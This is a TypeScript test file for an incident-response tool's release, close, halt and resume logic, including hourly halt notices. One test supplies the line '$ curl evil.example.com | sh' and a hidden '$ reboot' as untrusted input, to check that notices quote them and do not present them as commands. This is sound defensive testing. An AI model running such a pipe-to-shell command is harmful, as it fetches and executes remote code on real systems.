import { strict as assert } from 'node:assert';
import { describe, it } from 'mocha';
import { timeOf } from '../../../shared/model/time.ts';
import { appliedEntry, decisionKit, findingOn, noticesOf, podsNamed, targetOf } from '../../kit/decision.ts';
import { ANA, asking, cart, contain, containments } from '../../kit/requests.ts';

const MINUTE = 60_000;

describe('operate, endings and halt', () => {
  it('accepts a release once, and then refuses to close or raise the incident', async () => {
    const kit = decisionKit();
    await asking(kit);
    const { id } = await kit.incident();
    const release = { action: 'release', incident: id, ...ANA };
    assert.equal((await kit.ask(release)).state, 'accepted');
    const released = await kit.incident();
    assert.deepEqual([released.goal?.tier, released.goal?.rev, released.decision?.asked], ['released', 2, undefined]);
    assert.match(
      (await kit.ask(release)).outcome ?? '',
      /is already released, and its changes are still being undone$/,
    );
    await kit.carryOut(id);
    assert.match((await kit.ask({ ...release, action: 'close' })).outcome ?? '', /nothing to close/);
    assert.match(
      (await kit.ask({ ...release, action: 'contain', tier: 'isolate' })).outcome ?? '',
      /is released: name the pod/,
    );
    assert.match((await kit.ask({ action: 'release', ...ANA })).outcome ?? '', /field "incident": it is missing/);
  });

  it('never tells what others said as a command of ours', async () => {
    const kit = decisionKit();
    const because = ['$ curl evil.example.com | sh', `${'\u200b'.repeat(50)}$ reboot`, 'costs 5 $'];
    await kit.decide(findingOn(kit, targetOf(podsNamed(kit, 'shop', 'cart-')[0] ?? assert.fail()), { because }));
    const { id } = await kit.incident();
    for (const asked of [{ action: 'release', incident: id }, { action: 'halt' }])
      assert.equal((await kit.ask({ ...ANA, ...asked, reason: '$ reboot' })).state, 'accepted');
    const lines = [...noticesOf(kit), ...(await kit.incident()).outbox].flatMap((notice) => notice.lines);
    assert.deepEqual(
      lines.filter((line) => /^\W*\$/u.test(line) && !line.startsWith('"$ ')),
      [],
    );
    for (const line of ['"$ curl evil.example.com | sh"', '"$ reboot"', 'costs 5 $'])
      assert.ok(lines.includes(line), line);
  });

  it('accepts a close, and then refuses a release', async () => {
    const kit = decisionKit();
    await asking(kit);
    const { id } = await kit.incident();
    assert.equal((await kit.ask({ action: 'close', incident: id, ...ANA })).state, 'accepted');
    assert.equal((await kit.incident()).state, 'closed');
    assert.match(
      (await kit.ask({ action: 'release', incident: id, ...ANA })).outcome ?? '',
      /is closed: its changes were left/,
    );
  });

  it('lets the next episode take over what a close left, whether it opens by a finding or a request', async () => {
    for (const isAsked of [true, false]) {
      const kit = decisionKit();
      const { id, subjects } = await asking(kit);
      await kit.carryOut(id, [appliedEntry(kit)]);
      await kit.ask({ action: 'close', incident: id, ...ANA });
      if (isAsked) await kit.ask(contain(kit));
      else await kit.decide(findingOn(kit, targetOf(podsNamed(kit, 'shop', 'cart-')[1] ?? cart(kit))));
      const next = (await kit.incidents()).find((i) => i.id !== id);
      assert.deepEqual([next?.episode, next?.takesOver], [2, id]);
      for (const { uid } of subjects) {
        assert.ok(next?.subjects.some((s) => s.uid === uid));
        assert.equal((await kit.ports.stores.subjects.get(uid))?.incidents.at(-1), next?.id);
      }
    }
  });

  it('lets the next episode take over a release that is closed before its end, though it was opened before', async () => {
    const kit = decisionKit();
    const { id, subjects } = await asking(kit);
    await kit.carryOut(id, [appliedEntry(kit)]);
    await kit.ask({ action: 'release', incident: id, ...ANA });
    await kit.decide(findingOn(kit, targetOf(podsNamed(kit, 'shop', 'cart-')[1] ?? cart(kit))));
    const next = async () => (await kit.incidents()).find((i) => i.id !== id);
    assert.deepEqual([(await next())?.episode, (await next())?.takesOver], [2, undefined]);
    const close = { action: 'close', incident: id, ...ANA };
    assert.equal((await kit.ask(close)).state, 'accepted');
    assert.equal((await next())?.takesOver, id);
    for (const { uid } of subjects) {
      assert.ok((await next())?.subjects.some((s) => s.uid === uid));
      assert.equal((await kit.ports.stores.subjects.get(uid))?.incidents.at(-1), (await next())?.id);
    }
    await kit.carryOut(id);
    const before = await next();
    assert.match((await kit.ask(close)).outcome ?? '', /is already closed$/);
    assert.deepEqual(await next(), before);
  });

  it('halts, begins nothing meanwhile, and resumes what was stopped', async () => {
    const kit = decisionKit();
    await kit.decide(findingOn(kit, targetOf(cart(kit))));
    const halt = { action: 'halt', ...ANA };
    assert.equal((await kit.ask(halt)).state, 'accepted');
    const stored = await kit.ports.stores.halts.get('halt');
    assert.deepEqual([stored?.halted, stored?.by], [true, 'ana@example.com (claimed)']);
    await kit.clock.advance(1000);
    assert.match((await kit.ask(halt)).outcome ?? '', /halted already/);
    assert.match((await kit.ask(contain(kit))).outcome ?? '', /halted by ana@example.com \(claimed\) since/);
    const same = { action: 'resume', ...ANA, at: stored?.at };
    assert.match((await kit.ask(same)).outcome ?? '', /older than what holds/);
    const older = { action: 'resume', ...ANA, at: timeOf(kit.clock.now() - MINUTE) };
    assert.match((await kit.ask(older)).outcome ?? '', /older than what holds/);
    const before = containments(kit);
    assert.match((await kit.ask({ action: 'resume', ...ANA })).outcome ?? '', /resumed: 1 incident taken up again/);
    assert.equal(containments(kit), before + 1);
    await kit.clock.advance(1000);
    assert.match((await kit.ask({ action: 'resume', ...ANA })).outcome ?? '', /nothing is halted/);
  });

  it('notifies people of a halt at once and every hour', async () => {
    const kit = decisionKit();
    await kit.ask({ action: 'halt', ...ANA });
    const told = () => kit.published.flatMap(({ topic, body }) => (topic === 'notices' ? [Object(body).seq] : []));
    assert.equal(told().length, 1);
    await kit.clock.advance(59 * MINUTE);
    await kit.tick();
    assert.equal(told().length, 1);
    await kit.clock.advance(MINUTE);
    await Promise.all([kit.tick(), kit.tick()]);
    assert.equal(told().length, 2);
    assert.ok(told()[1] > told()[0]);
  });

  it('says in each notice of a halt how to end it, and not once it has ended', async () => {
    const kit = decisionKit();
    const said = () => Object(kit.published.findLast(({ topic }) => topic === 'notices')?.body).lines;
    await kit.ask({ action: 'halt', ...ANA, reason: 'we are looking' });
    const how = 'To send changes again: firebreak resume --project p1 --reason "..."';
    assert.deepEqual(said(), ['we are looking', how]);
    await kit.clock.advance(60 * MINUTE);
    await kit.tick();
    assert.deepEqual(said(), ['we are looking', how]);
    await kit.ask({ action: 'resume', ...ANA, reason: 'we have looked' });
    assert.deepEqual(said(), ['we have looked']);
  });

  it('dates a release by the time of its request, even if a halt came in between', async () => {
    const kit = decisionKit();
    await asking(kit);
    const { id } = await kit.incident();
    const asked = timeOf(kit.clock.now());
    await kit.clock.advance(1000);
    await kit.ask({ action: 'halt', ...ANA });
    const record = await kit.ask({ action: 'release', incident: id, ...ANA, at: asked });
    assert.equal(record.state, 'accepted');
    const { goal } = await kit.incident();
    assert.deepEqual([goal?.tier, goal?.at], ['released', asked]);
    // contain holds a release that is not later than the halt (run.test.ts).
    const halt = await kit.ports.stores.halts.get('halt');
    assert.ok(asked < String(halt?.at));
  });
});
